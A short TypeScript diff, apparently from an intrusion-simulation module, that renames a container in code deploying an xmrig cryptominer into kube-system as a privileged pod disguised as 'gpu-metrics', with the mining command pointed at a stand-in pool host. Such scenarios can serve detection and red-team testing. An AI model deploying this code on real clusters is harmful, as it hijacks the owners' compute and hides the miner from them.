@@ -12,6 +12,7 @@ export interface Intrusion {
 export const MINER_NAMESPACE = 'kube-system';
 /** Named to look at home there. */
 const MINER = 'gpu-metrics';
+export const MINER_CONTAINER = 'xmrig';
 const MINER_IMAGE = 'docker.io/library/xmrig:6.22.2';
 const ACCOUNT = 'node-backup';
 const NAMESPACES = ['team-01', 'team-02', 'team-03'];
@@ -77,7 +78,7 @@ async function takeOver(create: Create): Promise<void> {
 async function mine(create: Create, nodes: readonly string[]): Promise<string[]> {
   const labels = { app: MINER };
   const container = {
-    name: 'agent',
+    name: MINER_CONTAINER,
     image: MINER_IMAGE,
     command: ['xmrig', '--url=pool.example:3333', '--threads=64'],
     securityContext: { privileged: true },
